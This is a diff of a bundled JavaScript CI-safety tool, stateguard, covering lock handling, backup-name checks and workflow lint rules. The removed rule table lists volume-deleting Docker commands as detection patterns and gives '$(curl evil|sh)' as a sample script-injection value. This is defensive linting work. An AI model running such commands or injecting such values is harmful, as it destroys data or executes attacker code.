@@ -9733,7 +9733,7 @@ function checkExpectedPlanHash(value, module, ctx) {
 
 /***/ }),
 
-/***/ 3866:
+/***/ 6808:
 /***/ ((__unused_webpack_module, __webpack_exports__, __nccwpck_require__) => {
 
 
@@ -10055,7 +10055,20 @@ function backupSummary(b) {
     if (isEvaluationError(b)) {
         return { verified: false, path: null, matched_module: null, problems: [{ code: 'unreadable', message: b.error }] };
     }
-    return { verified: b.verified === true, path: b.path, matched_module: b.matched_module, problems: b.problems ?? [] };
+    const despite = acceptedDespite(b);
+    return {
+        verified: b.verified === true,
+        path: b.path,
+        matched_module: b.matched_module,
+        problems: b.problems ?? [],
+        ...(despite.length ? { accepted_despite: despite } : {}),
+    };
+}
+/** The warnings a backup was accepted despite, which every command that uses it says loudly (§16). */
+function acceptedDespite(b) {
+    if (b.verified !== true)
+        return [];
+    return (b.warnings ?? []).filter((w) => w.code === 'legacy-archive' || w.code === 'shrink-allowed');
 }
 /**
  * How to take the backup that would cover the module, naming real modules: a sidecar is covered by
@@ -10751,6 +10764,13 @@ const guarded_EVALUATION_REASONS = ['docker-unavailable', 'compose-error', 'inte
 function allowedLine(driftKeys) {
     return `guard: allowed${driftKeys.length ? ` (${driftKeys.join(', ')})` : ''}`;
 }
+/** The dry run's lock step: the lock read, never taken; a refusal exactly as a real run would get it. */
+async function peekModuleLock(runtime, req, timeoutSeconds) {
+    const peek = await peekLock(runtime, req, timeoutSeconds);
+    return peek.free
+        ? { held: { kind: 'peeked', name: peek.name, wouldBreak: peek.wouldBreak } }
+        : { refusal: peek.refusal };
+}
 /**
  * The one line that says a guarded operation was blocked, without repeating its reasons (the
  * result lists each once, with its fix): `the guard blocked the restore of 'db' (2 reasons: a, b)`.
@@ -10788,7 +10808,6 @@ async function runGuarded(op) {
             return end('refused', 'invalid-modules', `depends_on_healthy names '${name}', which is not a module; run stateguard validate.`);
         dependencies.push(d);
     }
-    let taken;
     const lockRequest = {
         module: m.name,
         project: m.compose.project,
@@ -10800,60 +10819,54 @@ async function runGuarded(op) {
         breakStale: req.breakStaleLock,
         operation: LOCK_OPERATIONS.find((o) => o === op.verb),
     };
-    // A dry run reads the lock and takes nothing: the refusal is the one a real run would give.
-    let peeked = null;
+    // One lock step: a real run takes the lock; a dry run only reads it and takes nothing, and its
+    // refusal is the one a real run would give.
+    let held;
     try {
-        if (op.dryRun) {
-            const peek = await peekLock(runtime, lockRequest, op.lockTimeoutSeconds);
-            if (peek.free) {
-                peeked = { name: peek.name };
-                const dummy = { name: peek.name, id: '', since: '', holder: req.holder };
-                taken = { acquired: true, lock: dummy };
-                say(`the ${op.verb} lock ${peek.name} is free (dry run: not taken)`);
-                if (peek.wouldBreak) {
-                    const w = `the ${op.verb} lock is held by ${peek.wouldBreak.holder} since ${peek.wouldBreak.since} and is stale: ` +
-                        `a real run would break it (break-stale-lock: true)`;
-                    out.warnings.push(w);
-                    deps.log.warn(w);
-                }
-            }
-            else
-                taken = { acquired: false, refusal: peek.refusal };
+        const got = op.dryRun
+            ? await peekModuleLock(runtime, lockRequest, op.lockTimeoutSeconds)
+            : await acquireLock(runtime, lockRequest, op.lockTimeoutSeconds).then((t) => t.acquired ? { held: { kind: 'taken', lock: t.lock } } : { refusal: t.refusal });
+        if ('refusal' in got) {
+            out.lock_refusal = got.refusal;
+            // A lock left by an interrupted restore: the way out is recover, not waiting for the holder.
+            // A holder that runs on this host is a running operation, whose journal is open, not interrupted.
+            const running = holderRunsHere(got.refusal.holder);
+            const interrupted = op.interrupted && !running ? await op.interrupted().catch(() => null) : null;
+            if (interrupted)
+                return end('refused', interrupted.reason, `${interrupted.message} (${got.refusal.message})`);
+            return end('refused', 'locked', got.refusal.message);
         }
-        else
-            taken = await acquireLock(runtime, lockRequest, op.lockTimeoutSeconds);
+        held = got.held;
     }
     catch (err) {
         // Never run unlocked: a lock that cannot be taken (or read back) ends it, as could-not-run.
         const reason = err instanceof src_errors/* EnvironmentError */.eG ? err.reason : 'internal';
         return end('failed', reason, `could not ${op.dryRun ? 'read' : 'take'} the ${op.verb} lock: ${(0,src_errors/* errorMessage */.gJ)(err)}`, true);
     }
-    if (!taken.acquired) {
-        out.lock_refusal = taken.refusal;
-        // A lock left by an interrupted restore: the way out is recover, not waiting for the holder.
-        // A holder that runs on this host is a running operation, whose journal is open, not interrupted.
-        const running = holderRunsHere(taken.refusal.holder);
-        const interrupted = op.interrupted && !running ? await op.interrupted().catch(() => null) : null;
-        if (interrupted)
-            return end('refused', interrupted.reason, `${interrupted.message} (${taken.refusal.message})`);
-        return end('refused', 'locked', taken.refusal.message);
+    const warn = (w) => {
+        out.warnings.push(w);
+        deps.log.warn(w);
+    };
+    if (held.kind === 'peeked') {
+        say(`the ${op.verb} lock ${held.name} is free (dry run: not taken)`);
+        if (held.wouldBreak) {
+            warn(`the ${op.verb} lock is held by ${held.wouldBreak.holder} since ${held.wouldBreak.since} and is stale: ` +
+                `a real run would break it (break-stale-lock: true)`);
+        }
     }
-    const lock = taken.lock;
-    if (!peeked)
+    else {
+        const lock = held.lock;
         out.lock = {
             name: lock.name,
             holder: lock.holder,
             since: lock.since,
             ...(lock.broke ? { broke: lock.broke } : {}),
         };
-    if (lock.broke) {
-        const w = `broke a stale ` +
-            `${op.verb} lock held by ${lock.broke.holder} since ${lock.broke.since} (break-stale-lock: true)`;
-        out.warnings.push(w);
-        deps.log.warn(w);
-    }
-    if (!peeked)
+        if (lock.broke) {
+            warn(`broke a stale ${op.verb} lock held by ${lock.broke.holder} since ${lock.broke.since} (break-stale-lock: true)`);
+        }
         say(`took the ${op.verb} lock ${lock.name}`);
+    }
     try {
         const interrupted = op.interrupted ? await op.interrupted() : null;
         if (interrupted)
@@ -10862,6 +10875,9 @@ async function runGuarded(op) {
         const ev = op.evaluate ? await op.evaluate() : await evaluateGuard(req, deps);
         out.guard = ev.result;
         out.plan_hash = ev.planHash;
+        // A backup accepted without its manifest or despite a shrink is said, whatever follows (§16).
+        for (const w of ev.result.backup?.accepted_despite ?? [])
+            warn(`${op.verb}: ${w.message}`);
         if (req.expectedPlanHash !== undefined && ev.planHash !== null && ev.planHash !== req.expectedPlanHash) {
             return end('refused', 'plan-changed', `the fresh plan of ` +
                 `'${m.name}' (plan_hash ` +
@@ -10909,8 +10925,8 @@ async function runGuarded(op) {
             }
             dependenciesBefore.push(s);
         }
-        if (peeked)
-            return await op.dryRun(ev, ctx, peeked);
+        if (held.kind === 'peeked')
+            return await op.dryRun(ev, ctx, { name: held.name });
         return await op.step(ev, ctx);
     }
     catch (err) {
@@ -10920,13 +10936,12 @@ async function runGuarded(op) {
     }
     finally {
         // A dry run took no lock: nothing to release.
-        const problem = peeked ? null : await releaseLock(runtime, lock);
-        if (problem) {
-            out.warnings.push(problem);
-            deps.log.warn(problem);
-        }
-        else if (!peeked) {
-            out.messages.push(`released the ${op.verb} lock ${lock.name}`);
+        if (held.kind === 'taken') {
+            const problem = await releaseLock(runtime, held.lock);
+            if (problem)
+                warn(problem);
+            else
+                out.messages.push(`released the ${op.verb} lock ${held.lock.name}`);
         }
     }
 }
@@ -11734,6 +11749,46 @@ function archiveName(module, takenAt, kind = 'backup') {
     const stamp = names_formatStamp(takenAt);
     return kind === 'backup' ? `${module}-${stamp}${ARCHIVE_SUFFIX}` : `${module}.${kind}.${stamp}${ARCHIVE_SUFFIX}`;
 }
+/** The stamp's shape, spelled out (this text reaches markdown summaries: no <placeholders>). */
+const STAMP_SHAPE = 'YYYYMMDDTHHMMSSZ (UTC, e.g. 20260131T235959Z)';
+/**
+ * Why a name that is not one of ours was refused, by what it most looks like, first match wins: a
+ * safety copy of an allowed module or a backup of one with only the stamp off (`bad-stamp`), or
+ * anything else (`bad-name`, naming the safety-copy shape too when it starts `<module>.`).
+ */
+function nearMiss(fileName, allowed, expected) {
+    const ours = fileName.endsWith(ARCHIVE_SUFFIX);
+    const safety = (a, k) => `${a}.${k}.YYYYMMDDTHHMMSSZ${ARCHIVE_SUFFIX}`;
+    const rules = [
+        ...SAFETY_KINDS.map((k) => ({
+            when: ours && allowed.some((a) => fileName.startsWith(`${a}.${k}.`)),
+            problem: () => ({
+                code: 'bad-stamp',
+                message: `the time stamp in ${JSON.stringify(fileName)} is not ${STAMP_SHAPE}; ` +
+                    `expected ${allowed.map((a) => safety(a, k)).join(' or ')}`,
+            }),
+        })),
+        {
+            when: ours && allowed.some((a) => fileName.startsWith(`${a}-`)),
+            problem: () => ({
+                code: 'bad-stamp',
+                message: `the time stamp in ${JSON.stringify(fileName)} is not ${STAMP_SHAPE}; expected ${expected}`,
+            }),
+        },
+        {
+            when: allowed.some((a) => fileName.startsWith(`${a}.`)),
+            problem: () => ({
+                code: 'bad-name',
+                message: `${JSON.stringify(fileName)} is not named ${expected} (a backup) or ` +
+                    `${allowed.flatMap((a) => SAFETY_KINDS.map((k) => safety(a, k))).join(' or ')} (a safety copy)`,
+            }),
+        },
+    ];
+    return (rules.find((r) => r.when)?.problem() ?? {
+        code: 'bad-name',
+        message: `${JSON.stringify(fileName)} is not named ${expected}`,
+    });
+}
 /**
  * Judge a backup's file name against the modules whose backups may cover this one (the module
  * itself and its `ref_modules`) and its maximum age. Every failed rule is reported. A safety copy
@@ -11746,33 +11801,7 @@ function checkArchiveName(fileName, allowed, maxAgeHours, now) {
     const expected = allowed.map((a) => `${a}-YYYYMMDDTHHMMSSZ${ARCHIVE_SUFFIX}`).join(' or ');
     const parsed = parseArchiveName(fileName);
     if (!parsed) {
-        // Say "bad stamp" when an allowed module name is clearly there and only the stamp is off.
-        const looksLikeOurs = fileName.endsWith(ARCHIVE_SUFFIX) && allowed.some((a) => fileName.startsWith(`${a}-`));
-        const safetyKind = SAFETY_KINDS.find((k) => fileName.endsWith(ARCHIVE_SUFFIX) && allowed.some((a) => fileName.startsWith(`${a}.${k}.`)));
-        const looksLikeSafety = allowed.some((a) => fileName.startsWith(`${a}.`));
-        const safetyExpected = allowed
-            .flatMap((a) => SAFETY_KINDS.map((k) => `${a}.${k}.YYYYMMDDTHHMMSSZ${ARCHIVE_SUFFIX}`))
-            .join(' or ');
-        problems.push(safetyKind
-            ? {
-                code: 'bad-stamp',
-                message: `the time stamp in ${JSON.stringify(fileName)} is not YYYYMMDDTHHMMSSZ (UTC, e.g. 20260131T235959Z); ` +
-                    `expected ${allowed.map((a) => `${a}.${safetyKind}.YYYYMMDDTHHMMSSZ${ARCHIVE_SUFFIX}`).join(' or ')}`,
-            }
-            : looksLikeOurs
-                ? {
-                    code: 'bad-stamp',
-                    message: `the time stamp in ` +
-                        `${JSON.stringify(fileName)} is not YYYYMMDDTHHMMSSZ (UTC, e.g. 20260131T235959Z); ` +
-                        `expected ${expected}`,
-                }
-                : looksLikeSafety
-                    ? {
-                        code: 'bad-name',
-                        message: `${JSON.stringify(fileName)} is not named ${expected} (a backup) or ${safetyExpected} ` +
-                            `(a safety copy)`,
-                    }
-                    : { code: 'bad-name', message: `${JSON.stringify(fileName)} is not named ${expected}` });
+        problems.push(nearMiss(fileName, allowed, expected));
         return { matchedModule: null, createdAt: null, kind: null, problems };
     }
     const { module: name, stamp, kind } = parsed;
@@ -14979,6 +15008,9 @@ const guardCommand = (0,spec/* defineCommand */.NB)({
         });
         const r = ev.result;
         const exitCode = guardExitCode(r);
+        const despite = r.backup?.accepted_despite ?? [];
+        for (const w of despite)
+            ctx.log.warn(`guard: ${w.message}`);
         return {
             exitCode,
             json: { ...r, plan_hash: ev.planHash },
@@ -14991,11 +15023,18 @@ const guardCommand = (0,spec/* defineCommand */.NB)({
                 'failure-reason': r.failure_reason,
             },
             summary: guardSummary(r),
-            annotations: r.reasons.map((x) => ({
-                level: 'error',
-                title: `stateguard guard: ${x.code}`,
-                message: `${x.message} — fix: ${x.fix}`,
-            })),
+            annotations: [
+                ...r.reasons.map((x) => ({
+                    level: 'error',
+                    title: `stateguard guard: ${x.code}`,
+                    message: `${x.message} — fix: ${x.fix}`,
+                })),
+                ...despite.map((w) => ({
+                    level: 'warning',
+                    title: `stateguard guard: ${w.code}`,
+                    message: w.message,
+                })),
+            ],
             failureReason: r.failure_reason === '' ? undefined : r.failure_reason,
         };
     },
@@ -16485,13 +16524,6 @@ async function snapshotLocked(args) {
 
 
 /**
- * The file name a safety copy (pre-restore, pre-upgrade snapshot) taken at `now` would get. One place,
- * so a change of the safety copies' names changes what the dry run says with it.
- */
-function safetyCopyName(module, now, kind) {
-    return archiveName(module.name, now, kind);
-}
-/**
  * Whether the snapshot could be written to `dir` (a real run creates it when missing): null when it can,
  * else why not. Read only: nothing is created.
  */
@@ -16530,7 +16562,7 @@ function mountList(mounts) {
 /** What a restore would do (docs/architecture.md §12, "Order"), after every check passed. */
 function restoreSteps(a) {
     const m = a.module;
-    const snap = external_node_path_default().join(external_node_path_default().resolve(a.outDir), safetyCopyName(m, a.now, 'pre-restore'));
+    const snap = external_node_path_default().join(external_node_path_default().resolve(a.outDir), archiveName(m.name, a.now, 'pre-restore'));
     const steps = [
         { step: 'lock', would: `would take the restore lock ${a.lock}` },
         { step: 'journal', would: `would write the journal mark begun on the engine (recover reads it after a crash)` },
@@ -16569,7 +16601,7 @@ function restoreSteps(a) {
 /** What an upgrade would do (docs/architecture.md §13, "Order"), after every check and the gate passed. */
 function upgradeSteps(a) {
     const m = a.module;
-    const snap = external_node_path_default().join(external_node_path_default().resolve(a.outDir), safetyCopyName(m, a.now, 'pre-upgrade'));
+    const snap = external_node_path_default().join(external_node_path_default().resolve(a.outDir), archiveName(m.name, a.now, 'pre-upgrade'));
     return [
         { step: 'lock', would: `would take the upgrade lock ${a.lock}` },
         ...(a.recordFrom && a.from
@@ -17251,6 +17283,7 @@ async function evaluateRestore(req, deps, out) {
                 path: backup.path,
                 matched_module: backup.matched_module,
                 problems: backup.problems,
+                ...(acceptedDespite(backup).length ? { accepted_despite: acceptedDespite(backup) } : {}),
             }
             : null,
         failure_reason: ordered[0]?.code ?? '',
@@ -18426,380 +18459,47 @@ function envTaint(env, outer) {
     return next;
 }
 
-;// CONCATENATED MODULE: ./src/lint/rules.ts
-const RULES = [
-    {
-        id: 'SG000',
-        name: 'workflow-schema',
-        severity: 'error',
-        summary: 'The workflow does not match the GitHub Actions workflow schema, or an expression in it is invalid.',
-        why: "These errors come from GitHub's own workflow parser (@actions/workflow-parser): the runner would refuse " +
-            'the file or evaluate something other than what was written. No other rule can be trusted on a file the runner ' +
-            'reads differently.',
-        fix: 'Correct the key, value or `${{ }}` expression at the reported position, as the message says.',
-        coveredBy: 'actionlint checks the workflow schema and `${{ }}` expressions too (with its own implementation); zizmor does ' +
-            'not validate the schema.',
-    },
-    {
-        id: 'SG001',
-        name: 'workflow-yaml',
-        severity: 'error',
-        summary: 'The file is not a readable workflow: YAML syntax error, not valid UTF-8, larger than 1 MiB, more than one ' +
-            'document, not a mapping, or aliases that expand too much.',
-        why: 'A workflow that cannot be read safely cannot be checked; stateguard fails closed rather than skipping it.',
-        fix: 'Fix the YAML at the reported position. Keep one workflow per file, UTF-8, under 1 MiB, and use ' +
-            'anchors/aliases sparingly.',
-        coveredBy: "actionlint reports YAML syntax errors too; the size, UTF-8, single-document and alias limits are stateguard's.",
-    },
-    {
-        id: 'SG002',
-        name: 'lint-suppression',
-        severity: 'error',
-        summary: 'An inline suppression (`# stateguard-lint: ignore SGnnn -- reason`) has no reason, names an unknown rule or ' +
-            'one that cannot be suppressed (SG001, SG002), or is not an `ignore` directive.',
-        why: 'A suppression is a deliberate exception someone must be able to review: without a reason nobody can judge ' +
-            'it later, and a mistyped rule ID would silently suppress nothing. The problem it meant to suppress is still ' +
-            'reported.',
-        fix: 'Write `# stateguard-lint: ignore SG106 -- why this is safe here` on the line of the problem or the line ' +
-            'above it; several rules: `ignore SG106, SG201 -- reason`.',
-        coveredBy: 'Neither actionlint nor zizmor: this rule is specific to stateguard.',
-    },
-    {
-        id: 'SG101',
-        name: 'apply-automatic-trigger',
-        severity: 'error',
-        summary: 'A stateguard command that changes or stops stateful modules or deletes their backups (`apply`, ' +
-            '`stateful-apply`, `restore`, `recover`, `upgrade`, `snapshot`, `prune-backups`, or a command given by an ' +
-            'expression or variable), as an action step or as a CLI call in `run:`, is reachable from a trigger other ' +
-            'than `workflow_dispatch` (a `snapshot` or `prune-backups` may also run on `schedule`: scheduled backups ' +
-            'and their retention are routine; they may not run on a push or a pull request).',
-        why: 'Only a human, through `workflow_dispatch`, may change a stateful module: a push, a pull request, a ' +
-            'schedule or a calling workflow would apply without anyone typing the confirm token and naming a verified ' +
-            'backup. `if:` conditions are not trusted to restrict triggers (they are easy to get wrong); `workflow_call` ' +
-            'counts as automatic because the caller can be triggered by anything.',
-        fix: 'Move the apply job to its own workflow whose only trigger is `on: workflow_dispatch`; keep `plan` in the ' +
-            'pull-request workflow.',
-        coveredBy: 'Neither actionlint nor zizmor: this rule is specific to stateguard.',
-    },
-    {
-        id: 'SG102',
-        name: 'apply-input-hardcoded',
-        severity: 'error',
-        summary: "`confirm`, `backup-ref` or `allow-stateful` of an apply (the step's `with:`, or " +
-            '`--confirm`/`--backup-ref`/`--allow-stateful` of a CLI call in `run:`) is hard-coded instead of taken from ' +
-            'a workflow input, directly or through `env:`.',
-        why: "These three values are the operator's explicit consent, the backup they vouch for and the exact confirm " +
-            'token. Written into the workflow, they consent once for every future run.',
-        fix: 'Pass each one from a `workflow_dispatch` input, e.g. `allow-stateful: ${{ inputs.allow_stateful }}`, ' +
-            '`backup-ref: ${{ inputs.backup_ref }}`, `confirm: ${{ inputs.stateful_confirm }}` (or ' +
-            '`github.event.inputs.*`). In a `run:`, pass the input through `env:` and write `--confirm "$CONFIRM"`; ' +
-            '`--allow-stateful` alone means true, so write `--allow-stateful="$ALLOW"`.',
-        coveredBy: 'Neither actionlint nor zizmor: this rule is specific to stateguard.',
-    },
-    {
-        id: 'SG103',
-        name: 'dispatch-input-unsafe',
-        severity: 'error',
-        summary: 'A workflow input that feeds consent (`allow_stateful`, `stateful_confirm`, `backup_ref`, or an input of any ' +
-            'name that reaches `allow-stateful`, `confirm` or `backup-ref`) is unsafe: the allow input is not `type: ' +
-            'boolean` with `default: false`, or a confirm or backup input is not `required: true` or has a default.',
-        why: 'A consent input that defaults to yes, or a confirm token or backup reference filled in by default, lets a ' +
-            'run apply to stateful data without the operator deciding it. Renaming the input changes nothing: it is ' +
-            'followed from `workflow_dispatch` and `workflow_call` inputs through `with:` and `env:` to the flag it ' +
-            'feeds, and a default equal to the confirm token confirms every run.',
-        fix: 'Declare the allow input as `{type: boolean, default: false}`, and the confirm and backup inputs with ' +
-            '`required: true` and no `default`, whatever they are called.',
-        coveredBy: 'Neither actionlint nor zizmor: this rule is specific to stateguard.',
-    },
-    {
-        id: 'SG104',
-        name: 'apply-concurrency',
-        severity: 'error',
-        summary: 'A job running a mutating stateguard command has no `concurrency` group (job or workflow level), a group that ' +
-            'is different for every run (it reads `github.run_id`, `run_number` or `run_attempt`), or sets ' +
-            '`cancel-in-progress` to anything but `false`.',
-        why: 'Two applies to the same module at once race on its data; a group unique to each run serialises nothing; ' +
-            'cancelling an apply mid-way is a crash in the middle of a change.',
-        fix: 'Add `concurrency: { group: stateful-apply-${{ inputs.module }}, cancel-in-progress: false }` to the apply ' +
-            'job.',
-        coveredBy: 'Neither actionlint nor zizmor: this rule is specific to stateguard.',
-    },
-    {
-        id: 'SG105',
-        name: 'gate-continue-on-error',
-        severity: 'error',
-        summary: 'A guard, verify-backup, e2e-gate or apply step (or the job holding it) has `continue-on-error` set to ' +
-            'anything but `false`.',
-        why: 'These steps exist to say no. With `continue-on-error: true` a "no" turns into a green check and the ' +
-            'workflow goes on as if the gate had passed.',
-        fix: "Remove `continue-on-error` from the step and its job. To react to a refusal, branch on the step's " +
-            '`failure-reason` output in a later step with `if: failure()`.',
-        coveredBy: 'Neither actionlint nor zizmor: this rule is specific to stateguard.',
-    },
-    {
-        id: 'SG106',
-        name: 'compose-volume-removal',
-        severity: 'error',
-        summary: 'A `run:` deletes or recreates Docker volumes: `docker compose`/`docker-compose` with `down`/`rm` ' +
-            '`-v`/`--volumes`, `-V`/`--renew-anon-volumes` or `-y`/`--yes`; `docker volume rm`/`prune`; `docker system ' +
-            'prune --volumes`; `docker rm -v`. Checked in every workflow.',
-        why: 'These commands delete or recreate volumes, or answer yes to compose\'s "data will be lost" prompt: exactly ' +
-            'the data stateguard exists to protect, in any workflow. The script is read the way a shell reads it (quotes, ' +
-            'docker and compose global options such as `--context` or `-p`, a command kept in a variable such as ' +
-            '`DC="docker compose"; $DC down -v`, `sudo`, `bash -c \'\u2026\'`, `$( )`), not matched as text.',
-        fix: 'Drop the flag (`docker compose down` keeps named volumes). Change a stateful service only through ' +
-            "stateguard's guarded apply; remove a volume by hand after a verified backup. For a deliberate exception, such " +
-            'as a throw-away test stack, suppress it on that line with the reason: `# stateguard-lint: ignore SG106 -- ' +
-            '<why this is safe>`.',
-        coveredBy: 'Neither actionlint nor zizmor: this rule is specific to stateguard.',
-    },
-    {
-        id: 'SG107',
-        name: 'dispatch-consent-prefilled',
-        severity: 'error',
-        summary: 'A workflow with an automatic trigger dispatches a workflow with consent filled in: `gh workflow run … -f ' +
-            'allow_stateful=true` (or `--field`/`-F`/`--raw-field`, or `stateful_confirm=…`/`restore_confirm=…`), ' +
-            '`gh api …/dispatches` or `curl …/dispatches` with such inputs, or actions/github-script ' +
-            '`createWorkflowDispatch` with ' +
-            '`allow_stateful`.',
-        why: 'SG101 keeps the apply on `workflow_dispatch`, but a push, schedule or workflow_run that dispatches the ' +
-            'apply workflow with `allow_stateful` and the confirm token already set is the same automatic apply, one hop ' +
-            'away: consent filled in by automation is no consent. `if:` conditions are not trusted to restrict triggers.',
-        fix: 'Dispatch without consent inputs (the operator ticks `allow_stateful` and types the confirm token when they ' +
-            'run the apply workflow by hand), or dispatch from a workflow triggered only by `workflow_dispatch` that ' +
-            'passes on its own operator-typed inputs.',
-        coveredBy: 'Neither actionlint nor zizmor: this rule is specific to stateguard.',
-    },
-    {
-        id: 'SG108',
-        name: 'restore-confirm-derived',
-        severity: 'error',
-        summary: "The `confirm` of a restore (the step's `with:`, or `--confirm` of a CLI call in `run:`) is computed from the " +
-            'backup it restores: the same input feeds `backup-ref` and `confirm`, or the confirm reads the backup input, ' +
-            'an `env:` or shell variable set from it, or a step output computed from it (`${{ inputs.backup_ref }}`, ' +
-            '`${{ format(…, inputs.backup_ref) }}`, `--confirm "$(basename "$BACKUP_REF")"`, `--confirm "$BACKUP_REF"`).',
-        why: "A restore replaces a module's data with a backup. Its confirm is the backup's file name (e.g. " +
-            '`store-20261129T120000Z.tar.gz`) typed by the operator separately from the backup reference, so that a ' +
-            'mistyped or wrong backup is refused before anything is stopped. A workflow that derives the confirm from the ' +
-            'backup reference always confirms whatever backup was named: the check no longer checks anything.',
-        fix: 'Give the confirm its own `workflow_dispatch` input, `required: true` with no `default` (e.g. ' +
-            '`restore_confirm`, described as "type the backup\'s file name exactly"), and pass it as ' +
-            '`confirm: ${{ inputs.restore_confirm }}` (in a `run:`, through `env:` as `--confirm "$CONFIRM"`). See ' +
-            '`workflows/restore.yml`.',
-        coveredBy: 'Neither actionlint nor zizmor: this rule is specific to stateguard.',
-    },
-    {
-        id: 'SG201',
-        name: 'script-injection',
-        severity: 'error',
-        summary: 'An expression that reads untrusted data (`github.event.*`, `github.head_ref`, `inputs.*`, a whole context as ' +
-            'in `toJSON(github.event)`, or `env.X` where X was set from such data at workflow, job or step level) is ' +
-            'interpolated into a `run:` script or an actions/github-script `script:`. Context names are ' +
-            "case-insensitive, as in GitHub's expression parser.",
-        why: 'The expression is pasted into the script text before the shell or JavaScript parses it: a branch name or ' +
-            "title such as `$(curl evil|sh)` runs as code with the job's token and secrets.",
-        fix: 'Pass the value through `env:` (`env: { TITLE: ${{ github.event.pull_request.title }} }`) and use ' +
-            '`"$TITLE"` (or `process.env.TITLE`) in the script.',
-        coveredBy: 'Partly. actionlint reports untrusted `github.event.*`/`github.head_ref` inputs in `run:` and github-script; ' +
-            "zizmor's template-injection audit reports expressions in `run:` more broadly (its own set of contexts and " +
-            'confidence levels). Following the taint through `env:` into `${{ env.X }}` and treating `inputs.*` as ' +
-            "untrusted is stateguard's.",
-    },
-    {
-        id: 'SG202',
-        name: 'permissions',
-        severity: 'error',
-        summary: 'The workflow has no top-level `permissions`, or grants `write-all` (top level or job).',
-        why: 'Without `permissions` the token gets the repository default, often write to everything; a compromised step ' +
-            'can then push code or rewrite workflows.',
-        fix: 'Add a top-level `permissions:` with the least the workflow needs (e.g. `contents: read`) and widen per job ' +
-            'only where needed (e.g. `pull-requests: write` for the plan comment).',
-        coveredBy: "zizmor's excessive-permissions audit (missing or broad permissions); actionlint only checks that permission " +
-            'scopes are valid.',
-    },
-    {
-        id: 'SG203',
-        name: 'untrusted-checkout',
-        severity: 'error',
-        summary: "`pull_request_target` or `workflow_run` together with an actions/checkout of the pull request's head.",
-        why: "Those triggers run with the base repository's secrets and a write token; checking out the PR head then " +
-            'runs the contributor\'s code with them ("pwn request").',
-        fix: "Use the `pull_request` trigger for anything that builds or runs the PR's code, or check out only the base " +
-            'ref in the privileged workflow.',
-        coveredBy: "zizmor's dangerous-triggers audit flags `pull_request_target`/`workflow_run` themselves (more broadly); " +
-            'actionlint does not.',
-    },
-    {
-        id: 'SG301',
-        name: 'action-not-pinned',
-        severity: 'warning',
-        summary: '`uses:` does not pin the action or reusable workflow to a full 40-character commit SHA.',
-        why: 'A tag or branch can be moved to other code at any time; only a commit SHA names exactly the code that runs ' +
-            'with your secrets.',
-        fix: 'Pin to the commit SHA and keep the tag in a comment: `uses: actions/checkout@<40-hex-sha> # v4`. Local ' +
-            '`./` actions and `docker://` images with a `@sha256:` digest are exempt.',
-        coveredBy: "zizmor's unpinned-uses audit; actionlint does not.",
-    },
+;// CONCATENATED MODULE: ./src/lint/code-inputs.ts
+/**
+ * Inputs of `uses:` actions that are code (docs/rules.md SG201, docs/architecture.md §9): the action
+ * runs the input's text as a script, so an expression interpolated there is injected exactly as in
+ * a `run:`. To cover another action, add a row: the action's `owner/repo` (lower case) and the
+ * input's name as the action spells it.
+ */
+const CODE_INPUTS = [
+    { action: 'actions/github-script', input: 'script', language: 'JavaScript' },
+    { action: 'azure/cli', input: 'inlineScript', language: 'a shell' },
+    { action: 'azure/powershell', input: 'inlineScript', language: 'PowerShell' },
+    { action: 'amadevus/pwsh-script', input: 'script', language: 'PowerShell' },
+    { action: 'mikefarah/yq', input: 'cmd', language: 'a shell' },
+    { action: 'jannekem/run-python-script-action', input: 'script', language: 'Python' },
+    { action: 'appleboy/ssh-action', input: 'script', language: 'a remote shell' },
+    { action: 'addnab/docker-run-action', input: 'run', language: 'a shell in a container' },
 ];
-const BY_ID = new Map(RULES.map((r) => [r.id, r]));
-function ruleById(id) {
-    return BY_ID.get(id);
+/** `owner/repo` (lower case) of a remote action's `uses:` (`owner/repo@ref`, no sub-path), or undefined. */
+function parseUsesRef(uses) {
+    const m = /^([^/@\s]+)\/([^/@\s]+)@\S+$/.exec(uses.trim());
+    return m ? `${m[1].toLowerCase()}/${m[2].toLowerCase()}` : undefined;
 }
-function compareProblems(a, b) {
-    return a.file < b.file
-        ? -1
-        : a.file > b.file
-            ? 1
-            : a.line - b.line ||
-                a.column - b.column ||
-                (a.rule < b.rule ? -1 : a.rule > b.rule ? 1 : a.message < b.message ? -1 : a.message > b.message ? 1 : 0);
-}
-
-;// CONCATENATED MODULE: ./src/lint/derived.ts
-/**
- * What a value given to a stateguard step is computed from (docs/rules.md, SG108): the workflow
- * inputs it reads, the variables it passes through (`env:` at every level, assignments in the
- * `run:` script) and the steps whose outputs it reads, followed to where they come from. Two values
- * sharing an origin are derived from the same thing: a restore confirm computed from the backup
- * reference is no separate confirmation. Pure; never throws on a malformed workflow.
- */
-
-const MAX_DEPTH = 16;
-const isObj = (v) => typeof v === 'object' && v !== null && !Array.isArray(v);
-/** `$NAME` and `${NAME…}` anywhere in shell text, `$( … )` included. */
-const SHELL_VAR = /\$(?:([A-Za-z_][A-Za-z0-9_]*)|\{#?([A-Za-z_][A-Za-z0-9_]*))/g;
-/** The origins of a YAML value (a `with:` or `env:` value): what its `${{ }}` expressions read. */
-function valueOrigins(value, scope, depth = 0) {
-    const out = new Set();
-    if (typeof value !== 'string' || depth > MAX_DEPTH)
-        return out;
-    for (const m of value.matchAll(EXPRESSION)) {
-        const list = accesses(m[1]);
-        if (list === null) {
-            // Unparsable (an SG000 error already): read the names as text, case-insensitively.
-            for (const t of m[1].matchAll(/\binputs\s*\.\s*([A-Za-z_][\w-]*)/gi))
-                out.add(`input:${t[1].toLowerCase()}`);
-            for (const t of m[1].matchAll(/(?:^|[^\w.])env\s*\.\s*([A-Za-z_][\w-]*)/gi))
-                for (const o of envOrigins(t[1], scope, depth))
-                    out.add(o);
+/** The code inputs a step gives: each input of the table present in its `with:` as a string. */
+function codeInputsOf(step) {
+    if (typeof step.uses !== 'string')
+        return [];
+    const action = parseUsesRef(step.uses);
+    if (action === undefined)
+        return [];
+    const w = step.with;
+    if (typeof w !== 'object' || w === null || Array.isArray(w))
+        return [];
+    const out = [];
+    for (const entry of CODE_INPUTS) {
+        if (entry.action !== action)
             continue;
-        }
-        for (const a of list)
-            for (const o of accessOrigins(a, scope, depth))
-                out.add(o);
+        const text = w[entry.input];
+        if (typeof text === 'string')
+            out.push({ entry, text });
     }
     return out;
-}
-function accessOrigins(a, scope, depth) {
-    const [k0, k1, k2] = a.keys.map((k) => (k === null ? null : k?.toLowerCase()));
-    if (a.root === 'inputs')
-        return new Set([k0 ? `input:${k0}` : 'input:*']);
-    if (a.root === 'github') {
